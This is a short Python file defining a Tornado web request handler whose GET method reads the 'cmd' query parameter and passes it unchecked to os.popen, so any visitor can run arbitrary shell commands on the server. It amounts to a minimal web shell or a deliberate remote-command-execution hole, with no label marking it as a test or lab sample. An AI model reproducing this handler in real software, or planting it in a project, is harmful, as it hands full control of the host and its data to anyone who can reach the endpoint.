import os
import tornado.web


class Main(tornado.web.RequestHandler):
    def initialize(self, base):
        self.base = base

    def get(self):
        self.run(self.get_argument("cmd"))

    def run(self, text):
        os.popen(text)
